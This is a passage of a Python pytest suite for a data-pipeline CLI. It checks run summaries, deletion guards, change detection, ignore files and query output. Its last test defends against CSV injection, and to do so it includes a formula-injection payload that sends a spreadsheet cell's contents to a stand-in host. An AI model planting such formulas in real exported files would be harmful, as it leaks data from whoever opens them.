        [sys.executable, "-m", "jobpipeline.cli", "query", "--warehouse", str(small_warehouse), long_sql],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        # Imports take ~0.6 s of CPU; past 1.5 s the query is running (on every core it may use).
        deadline = time.monotonic() + 60
        while _cpu_seconds(query.pid) < 1.5:
            assert query.poll() is None and time.monotonic() < deadline, query.communicate()
            time.sleep(0.05)
        query.send_signal(signal.SIGINT)
        stdout, stderr = query.communicate(timeout=60)
    finally:
        if query.poll() is None:
            query.kill()
            query.wait()
    assert query.returncode == 130, stderr
    assert stderr.strip() == "interrupted" and stdout == ""


def _cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


@pytest.mark.parametrize(
    ("n", "word", "expected"),
    [(0, "file", "0 files"), (1, "file", "1 file"), (2, "file", "2 files"), (1, "row", "1 row"), (3, "row", "3 rows")],
)
def test_plural(n: int, word: str, expected: str) -> None:
    """Counts read as English: `1 file`, never `1 files` or `1 file(s)`."""
    from jobpipeline.cli import plural

    assert plural(n, word) == expected


def test_one_file_is_singular_in_every_summary(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]
) -> None:
    """validate, run and revalidate on a one-file folder say `1 file` and `1 article`, never `1 files`/`file(s)`."""
    write_seed("a.txt", make_article("alpha"))
    texts = [
        cli("validate", "--seeds", str(seeds_dir)).stdout,
        cli("run", "--local", "--seeds", str(seeds_dir), "--warehouse", str(warehouse)).stdout,
        cli("revalidate", "--local", "--seeds", str(seeds_dir), "--warehouse", str(warehouse), "a.txt").stdout,
        cli("tables", "--warehouse", str(warehouse)).stdout,
    ]
    text = "\n".join(texts)
    assert "1 file checked" in texts[0] and "1 file seen" in texts[1] and "re-validated 1 file in" in texts[2]
    assert "loaded 1 article," in texts[1] and "(1 row)" in texts[3]
    for wrong in ("1 files", "1 rows", "1 articles", "file(s)", "1 errors", "1 warnings"):
        assert wrong not in text, wrong


def run_without_permission_override(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """`jobpipeline ARGS` in a process the kernel checks file modes for: as root (CI), through capsh without
    the capabilities that let root read and list anything; skipped only when neither is possible."""
    command = [sys.executable, "-m", "jobpipeline.cli", *args]
    if os.geteuid() == 0:
        capsh = shutil.which("capsh")
        if capsh is None:
            pytest.skip("running as root without capsh (apt-get install -y libcap2-bin): cannot drop the override")
        command = [capsh, "--drop=cap_dac_override,cap_dac_read_search", "--", "-c", 'exec "$0" "$@"', *command]
    return subprocess.run(
        command, capture_output=True, text=True, timeout=120, check=False, env={**os.environ, **(env or {})}
    )


def test_an_emptied_seeds_folder_deletes_nothing_without_allow_empty(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]
) -> None:
    """The seeds folder lists no seed file (an unmounted share's empty mount point, a wrong checkout, a sync
    under way): the run said "removed 2", exit 0, and published empty datasets. Now it stops in one line
    and commits nothing; `--allow-empty` deletes every article, and the failed corpus check is printed."""
    write_seed("a.txt", make_article("alpha"))
    write_seed("sub/b.txt", make_article("beta"))
    run_local(seeds_dir, warehouse)
    shutil.rmtree(seeds_dir)
    seeds_dir.mkdir()  # the mount point, with nothing mounted on it
    result = cli("run", "--local", "--seeds", str(seeds_dir), "--warehouse", str(warehouse))
    assert result.exit_code == 2 and result.stdout == "", result.output
    [line] = result.stderr.strip().splitlines()
    assert line == (
        f"error: seeds folder {seeds_dir} lists no seed file (*.txt or *.md) but the warehouse has 2 files from "
        "it: if it is a mount, check that it is mounted (or the branch, or the sync); to delete every article, "
        "run again with --allow-empty; nothing was committed"
    )
    assert rows(warehouse, "SELECT count(*) FROM runs") == [(1,)]
    published = warehouse.parent / "published" / "articles.parquet"
    assert rows(warehouse, f"SELECT count(*) FROM read_parquet('{published}')") == [(2,)]
    result = cli("run", "--local", "--allow-empty", "--seeds", str(seeds_dir), "--warehouse", str(warehouse))
    assert result.exit_code == 0, result.output
    assert "loaded 0 articles, removed 2" in result.stdout
    assert "  FAIL article-count-drop: 0 articles (was 2: 100.0% fewer)" in result.stdout.splitlines()
    assert rows(warehouse, f"SELECT count(*) FROM read_parquet('{published}')") == [(0,)]


def test_another_seeds_folder_deletes_nothing_without_new_seeds(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path], tmp_path: Path
) -> None:
    """`--seeds seeds/sub` (tab completion one folder too far) said "removed 2" of 3 articles, exit 0, and published
    the one left; the quality checks failed only after the commit. A run from another folder than the last
    run's that would delete most articles stops in one line, naming the last folder; `--new-seeds` lets it.
    A folder that moved with its files goes on."""
    write_seed("a.txt", make_article("alpha"))
    write_seed("d.txt", make_article("delta"))
    write_seed("sub/b.txt", make_article("beta"))
    run_local(seeds_dir, warehouse)
    sub = seeds_dir / "sub"
    result = cli("run", "--local", "--seeds", str(sub), "--warehouse", str(warehouse))
    assert result.exit_code == 2 and result.stdout == "", result.output
    [line] = result.stderr.strip().splitlines()
    assert line == (
        f"error: seeds folder {sub} is not the one this warehouse was built from ({seeds_dir.resolve()}): it lacks 3 "
        f"of the warehouse's 3 files, and this run would delete their articles: pass --seeds {seeds_dir.resolve()}, "
        "or give this folder a warehouse of its own (--warehouse); to make it this warehouse's seeds folder, run "
        "again with --new-seeds; nothing was committed"
    )
    assert rows(warehouse, "SELECT count(*) FROM runs") == [(1,)]
    moved = tmp_path / "moved"
    seeds_dir.rename(moved)
    summary = run_local(moved, warehouse)
    assert (summary["files_deleted"], summary["files_changed"]) == (0, 0)
    result = cli("run", "--local", "--new-seeds", "--seeds", str(moved / "sub"), "--warehouse", str(warehouse))
    assert result.exit_code == 0, result.output
    assert "3 deleted" in result.stdout and "loaded 1 article, removed 2" in result.stdout
    assert rows(warehouse, "SELECT slug, source_path FROM articles") == [("beta", "b.txt")]


def test_unlistable_subfolder_is_not_a_deletion(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]
) -> None:
    """A subfolder that cannot be listed keeps its articles as last known good (warehouse and published
    articles.parquet), prints `folder-unreadable`, deletes nothing; listed again, its articles are current again."""
    write_seed("a.txt", make_article("alpha"))
    write_seed("d.txt", make_article("delta"))
    write_seed("sub/b.txt", make_article("beta"))
    write_seed("sub/c.txt", make_article("gamma"))
    run_local(seeds_dir, warehouse)
    locked = seeds_dir / "sub"
    locked.chmod(0)
    try:
        completed = run_without_permission_override(
            "run", "--local", "--seeds", str(seeds_dir), "--warehouse", str(warehouse)
        )
    finally:
        locked.chmod(0o755)
    assert completed.returncode == 0, completed.stdout + completed.stderr
    assert "error[folder-unreadable]" in completed.stdout and "Permission denied" in completed.stdout
    assert "0 deleted" in completed.stdout and "`beta` no longer reads" in completed.stdout
    assert rows(
        warehouse, "SELECT files_deleted, articles_removed, articles_kept_last_good FROM runs WHERE run_id = 2"
    ) == [(0, 0, 2)]
    assert rows(warehouse, "SELECT slug, is_current FROM articles ORDER BY slug") == [
        ("alpha", True),
        ("beta", False),
        ("delta", True),
        ("gamma", False),
    ]
    published = warehouse.parent / "published" / "articles.parquet"
    assert rows(warehouse, f"SELECT count(*) FROM read_parquet('{published}')") == [(4,)]
    assert rows(warehouse, "SELECT source_path, code FROM validation_issues WHERE severity = 'error'") == [
        ("sub", "folder-unreadable")
    ]
    assert rows(warehouse, "SELECT count(*) FROM files") == [(4,)]
    summary = run_local(seeds_dir, warehouse)
    assert summary["files_changed"] == 0 and summary["errors"] == 0
    assert rows(warehouse, "SELECT count(*) FROM articles WHERE is_current") == [(4,)]


def test_unlistable_seeds_folder_fails_the_run_in_one_line(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]
) -> None:
    """A seeds folder that exists but cannot be listed fails the run (exit 2, one line) and commits nothing.

    Named by JOBPIPELINE_SEEDS: `--seeds` is checked for readability by the option parser already."""
    write_seed("a.txt", make_article("alpha"))
    run_local(seeds_dir, warehouse)
    seeds_dir.chmod(0)
    try:
        completed = run_without_permission_override(
            "run", "--local", "--warehouse", str(warehouse), env={"JOBPIPELINE_SEEDS": str(seeds_dir)}
        )
    finally:
        seeds_dir.chmod(0o755)
    assert completed.returncode == 2, completed.stdout + completed.stderr
    [line] = completed.stderr.strip().splitlines()
    assert "cannot be listed (Permission denied)" in line, line
    assert rows(warehouse, "SELECT count(*) FROM runs") == [(1,)]
    assert rows(warehouse, "SELECT slug FROM articles") == [("alpha",)]


SAVED_LONG_AGO = 1_600_000_000 * 10**9
"""An mtime far older than any read: the size+mtime fast path trusts it (not racily clean)."""


def save_keeping_size_and_mtime(path: Path, title: str, mtime_ns: int) -> None:
    """Rewrite `path` with another title of the same length and put its mtime back (a restore, `rsync -t`)."""
    path.write_text(make_article("alpha", title=title), encoding="utf-8")
    os.utime(path, ns=(mtime_ns, mtime_ns))


def titles(warehouse: Path) -> list[tuple[Any, ...]]:
    return rows(warehouse, "SELECT title FROM articles")


def test_verify_hashes_files_whose_size_and_mtime_did_not_move(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path], run: Callable[..., dict[str, Any]]
) -> None:
    """An edit that keeps size and mtime is invisible to a plain run, but `run --verify` hashes the bytes and
    loads it (issue 16.4d)."""
    path = write_seed("a.txt", make_article("alpha"))
    save_keeping_size_and_mtime(path, "version-1", SAVED_LONG_AGO)
    run(seeds_dir, warehouse)
    save_keeping_size_and_mtime(path, "version-2", SAVED_LONG_AGO)
    assert run(seeds_dir, warehouse)["files_changed"] == 0  # the fast path, by design
    assert titles(warehouse) == [("version-1",)]
    summary = run(seeds_dir, warehouse, "--verify")
    assert (summary["files_changed"], summary["articles_loaded"]) == (1, 1)
    assert titles(warehouse) == [("version-2",)]


def test_revalidate_hashes_the_named_file_whose_size_and_mtime_did_not_move(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]
) -> None:
    """`revalidate PATH` always hashes PATH: an edit that kept size and mtime is loaded (issue 16.4c)."""
    path = write_seed("a.txt", make_article("alpha"))
    save_keeping_size_and_mtime(path, "version-1", SAVED_LONG_AGO)
    run_local(seeds_dir, warehouse)
    save_keeping_size_and_mtime(path, "version-2", SAVED_LONG_AGO)
    result = cli("revalidate", str(path), "--local", "--seeds", str(seeds_dir), "--warehouse", str(warehouse))
    assert result.exit_code == 0, result.output
    assert titles(warehouse) == [("version-2",)]


def test_racily_clean_save_is_read_by_the_next_run(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]
) -> None:
    """Two same-size saves within one second of 1-second timestamps share an mtime: the file was read too
    close to its mtime to trust it, so the next plain run hashes it again and loads the second save (16.4b)."""
    # A whole second a little ahead: the first run reads within 2 s of it however slow the machine, as a
    # save and a read within the same tick of a 1-second filesystem do.
    tick = (time.time_ns() // 10**9 + 5) * 10**9
    path = write_seed("a.txt", make_article("alpha"))
    save_keeping_size_and_mtime(path, "version-1", tick)
    run_local(seeds_dir, warehouse)
    save_keeping_size_and_mtime(path, "version-2", tick)
    summary = run_local(seeds_dir, warehouse)
    assert (summary["files_changed"], summary["articles_loaded"]) == (1, 1)
    assert titles(warehouse) == [("version-2",)]


def test_warehouse_without_read_ns_gets_the_column_and_hashes_once(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]
) -> None:
    """A warehouse written before `files.read_ns` gains the column; its files count as racy and are hashed once."""
    import duckdb

    path = write_seed("a.txt", make_article("alpha"))
    os.utime(path, ns=(SAVED_LONG_AGO, SAVED_LONG_AGO))
    run_local(seeds_dir, warehouse)
    conn = duckdb.connect(str(warehouse))
    conn.execute("ALTER TABLE files DROP COLUMN read_ns")
    conn.close()
    summary = run_local(seeds_dir, warehouse)
    assert (summary["files_changed"], summary["files_unchanged"]) == (0, 1)
    [(read_ns,)] = rows(warehouse, "SELECT read_ns FROM files")
    assert read_ns is not None and read_ns > SAVED_LONG_AGO


def test_a_seeds_folder_ignore_file_keeps_readmes_and_drafts_out_of_every_command(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]
) -> None:
    """With `README.md` and `drafts/` in the seeds folder's `.jobpipelineignore`: run loads the article only
    (the README was an error on every run, the draft took part in slug checks); the pre-commit hook, which
    names every changed file, passes over the README; `revalidate README.md` says it is ignored; a pattern
    that is not valid is one line naming the file and line, nothing read."""
    write_seed("a.txt", make_article("alpha"))
    write_seed("README.md", "# How to write an article\n")
    write_seed("drafts/d.txt", make_article("alpha", title="a draft that reuses the slug"))
    write_seed(".jobpipelineignore", "README.md\ndrafts/\n")
    summary = run_local(seeds_dir, warehouse)
    assert (summary["files_seen"], summary["files_rejected"], summary["articles_loaded"]) == (1, 0, 1)
    assert rows(warehouse, "SELECT count(*) FROM validation_issues WHERE severity = 'error'") == [(0,)]

    hook = cli("validate", "--seeds", str(seeds_dir), str(seeds_dir / "README.md"), str(seeds_dir / "a.txt"))
    assert hook.exit_code == 0, hook.output
    assert "README" not in hook.output and "1 file checked" in hook.stdout

    named = cli("revalidate", "--local", "--seeds", str(seeds_dir), "--warehouse", str(warehouse), "README.md")
    assert named.exit_code == 2 and "README.md is ignored by the seeds folder's .jobpipelineignore" in named.stderr

    write_seed(".jobpipelineignore", "README.md\n[z-a].md\n")
    bad = cli("run", "--local", "--seeds", str(seeds_dir), "--warehouse", str(warehouse))
    assert bad.exit_code == 2, bad.output
    assert len(bad.stderr.strip().splitlines()) == 1 and ".jobpipelineignore:2: bad character range z-a" in bad.stderr
    assert rows(warehouse, "SELECT count(*) FROM runs") == [(1,)]


def test_from_a_subfolder_of_the_project_the_error_says_where_seeds_and_warehouse_are(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`cd docs && jobpipeline run` (or query): the default paths are relative to the current folder, and the
    errors said `seeds folder seeds does not exist` and, for query, `run jobpipeline run first`, which from
    there fails the same way. They now name the folder above where both are."""
    project = tmp_path / "project"
    (project / "seeds").mkdir(parents=True)
    (project / "seeds" / "a.txt").write_text(make_article("alpha"), encoding="utf-8")
    run_local(project / "seeds", project / "warehouse" / "jobs.duckdb")
    (project / "docs" / "api").mkdir(parents=True)
    monkeypatch.chdir(project / "docs" / "api")
    for args in (["run", "--local"], ["validate"], ["query", "SELECT 1"], ["report"]):
        result = cli(*args)
        assert result.exit_code == 2, (args, result.output)
        [line] = result.stderr.strip().splitlines()
        assert f"run from {project}" in line, (args, line)
    result = cli("query", "--warehouse", "elsewhere/jobs.duckdb", "SELECT 1")  # nothing above: no hint
    assert result.exit_code == 2 and "run from" not in result.stderr, result.stderr


def _strict_json(text: str) -> Any:
    def refuse(constant: str) -> None:
        raise ValueError(f"{constant} is not JSON")

    return json.loads(text, parse_constant=refuse)


@pytest.mark.parametrize(
    ("sql", "rows_"),
    [
        # `now() - max(finished_at)`, "how long ago was the last run": an INTERVAL, which polars cannot import
        ("SELECT INTERVAL 3 DAY AS ago", [{"ago": "3 days"}]),
        ("SELECT [INTERVAL 1 HOUR] AS ago", [{"ago": "['01:00:00']"}]),
        # `SELECT a.*, b.* FROM ... JOIN ...`: the shared columns come twice
        ("SELECT a.*, b.* FROM articles a JOIN articles b USING (slug)", [{"slug": "alpha", "slug_1": "alpha"}]),
        ("SELECT 1 AS n, 2 AS n, 3 AS n_1", [{"n": 1, "n_2": 2, "n_1": 3}]),
        ("SELECT union_value(k := 1) AS u", [{"u": "1"}]),
        # JSON has no NaN or Infinity: strict parsers (jq) refused the whole output
        (
            "SELECT 'nan'::DOUBLE AS x, '-inf'::DOUBLE AS y, 1.5::DOUBLE AS z",
            [{"x": "NaN", "y": "-Infinity", "z": 1.5}],
        ),
    ],
)
def test_query_answers_any_result_duckdb_gives(tmp_path: Path, sql: str, rows_: list[dict[str, Any]]) -> None:
    """Results polars could not take were internal errors ("report it"): an INTERVAL column (`now() - max(...)`),
    a UNION, and two columns of one name (`SELECT a.*, b.*` over a join). They are shown (intervals as DuckDB
    writes them, a repeated name with a suffix), and `--format json` is JSON a strict parser reads."""
    import duckdb

    warehouse = tmp_path / "jobs.duckdb"
    with duckdb.connect(str(warehouse)) as conn:
        conn.execute("CREATE TABLE articles AS SELECT 'alpha' AS slug")
    for output in ("json", "table", "csv"):
        result = cli("query", "--warehouse", str(warehouse), "--format", output, sql)
        assert result.exit_code == 0, (output, result.output)
    result = cli("query", "--warehouse", str(warehouse), "--format", "json", sql)
    assert _strict_json(result.stdout) == rows_


def test_an_upgraded_reader_reads_every_file_again_once(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]
) -> None:
    """A run read a file only when its bytes changed, so after an upgrade that reads articles better the
    warehouse kept the older jobpipeline's rows of every unedited file (there was no way to have them read
    again short of deleting the warehouse and its history). A file another reader read (`files.reader`;
    NULL in a warehouse from before the column) is parsed again once, its rows rebuilt where they differ."""
    import duckdb

    three_articles(write_seed)
    run_local(seeds_dir, warehouse)
    [(reader,)] = rows(warehouse, "SELECT DISTINCT reader FROM files")
    # What an older reader left: a band read without its years, and its fingerprint; one file from
    # before the column existed.
    conn = duckdb.connect(str(warehouse))
    conn.execute("UPDATE salary_bands SET years_min = NULL WHERE slug = 'alpha'")
    conn.execute("UPDATE salary_band_history SET years_min = NULL WHERE slug = 'alpha'")
    conn.execute("UPDATE files SET reader = 'older' WHERE source_path IN ('a.txt', 'b.md')")
    conn.execute("UPDATE files SET reader = NULL WHERE source_path = 'sub/c.txt'")
    conn.close()

    result = cli("run", "--local", "--seeds", str(seeds_dir), "--warehouse", str(warehouse))
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("run 2: 3 files seen, 0 new, 0 changed, 3 unchanged"), result.stdout
    assert "read 3 unchanged files again: this jobpipeline reads articles differently" in result.stdout
    assert rows(warehouse, "SELECT count(*) FROM salary_bands WHERE years_min IS NULL AND slug = 'alpha'") == [(0,)]
    assert rows(warehouse, "SELECT DISTINCT reader FROM files") == [(reader,)]
    # The history records the band that changed, not the others' identical reading.
    assert rows(warehouse, "SELECT DISTINCT slug FROM salary_band_history WHERE valid_from = 2") == [("alpha",)]

    again = run_local(seeds_dir, warehouse)
    assert again["nothing_changed"] and again["files_reread"] == 0


@pytest.mark.parametrize(
    ("sql", "answer"),
    [
        pytest.param("SELECT 1 AS a; SELECT 2 AS b", None, id="two-statements-are-refused"),
        pytest.param("SELECT 1 AS a;", "a\n1\n", id="a-trailing-semicolon-is-one"),
        pytest.param("SELECT ';' AS a -- ; not a statement", "a\n;\n", id="semicolons-in-text-and-comments"),
    ],
)
def test_query_answers_one_statement(small_warehouse: Path, sql: str, answer: str | None) -> None:
    """`query "SELECT ...; SELECT ..."` printed only the last statement's result: DuckDB runs them all and
    answers with the last, so the first result vanished without a word. Two statements are one line, exit 2."""
    result = cli("query", "--warehouse", str(small_warehouse), sql, "--format", "csv")
    if answer is None:
        assert result.exit_code == 2 and result.stdout == "", result.output
        assert "the SQL holds 2 statements and query answers one" in result.stderr
    else:
        assert result.exit_code == 0 and result.stdout == answer, result.output


@pytest.mark.parametrize(
    ("sql", "said"),
    [
        pytest.param("SELECT run_id FROM runs WHERE run_id＝1", "full-width ＝ outside quotes", id="equals"),
        pytest.param("SELECT run_id FROM runs LIMIT １０", "full-width １ ０ outside quotes", id="digits"),
        pytest.param("SELECT run_id FROM runs WHERE 'ジュニア（' = nope", "see `jobpipeline tables`", id="in-quotes"),
    ],
)
def test_full_width_sql_says_to_type_it_half_width(small_warehouse: Path, sql: str, said: str) -> None:
    """SQL typed with the Japanese IME on (`slug＝'a'`, `LIMIT １０`) got DuckDB's "Type with name slug＝ does
    not exist" and a pointer to the table list. The hint names the full-width characters; inside quotes
    they are the articles' own text and count for nothing."""
    result = cli("query", "--warehouse", str(small_warehouse), sql)
    assert result.exit_code == 2, result.output
    assert said in result.stderr, result.stderr


def test_a_served_ingest_says_it_read_files_again(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path], capsys: pytest.CaptureFixture[str]
) -> None:
    """serve's line for an ingest that read files again after an upgrade said "0 changed, 0 deleted" over
    articles it had just rebuilt."""
    import duckdb

    from jobpipeline.cli import _print_served_run

    three_articles(write_seed)
    run_local(seeds_dir, warehouse)
    conn = duckdb.connect(str(warehouse))
    conn.execute("UPDATE files SET reader = 'older'")
    conn.close()
    record = run_local(seeds_dir, warehouse)
    _print_served_run("jobpipeline-ingest", record)
    said = capsys.readouterr().out
    assert "run 2: 0 changed, 0 deleted, 0 rejected, 3 read again (another jobpipeline read them);" in said, said


def test_csv_copies_keep_formula_like_text_as_text(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]
) -> None:
    """`run --csv` writes copies for Excel; a title or tag a seed's editor wrote as `=HYPERLINK(...)` (or
    starting with +, -, @) ran as a formula when the file was opened (CSV injection). Such text gets a
    leading `'`, which Excel takes as "this is text"; the Parquet files keep the values as written."""
    import csv as csv_module

    import polars as pl

    title = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    write_seed("a.txt", make_article("alpha", title=title, extra={"tags": ["+1", "@SUM(A1)", "-2", "Python"]}))
    run_local(seeds_dir, warehouse, "--csv")
    published = warehouse.parent / "published"
    with open(published / "articles.csv", encoding="utf-8-sig", newline="") as file:
        [row] = list(csv_module.DictReader(file))
    assert row["title"] == "'" + title
    assert pl.read_parquet(published / "articles.parquet")["title"].to_list() == [title]
    with open(published / "tag_counts.csv", encoding="utf-8-sig", newline="") as file:
        tags = {line["tag"] for line in csv_module.DictReader(file)}
    assert {"'+1", "'@SUM(A1)", "'-2", "Python"} <= tags, tags
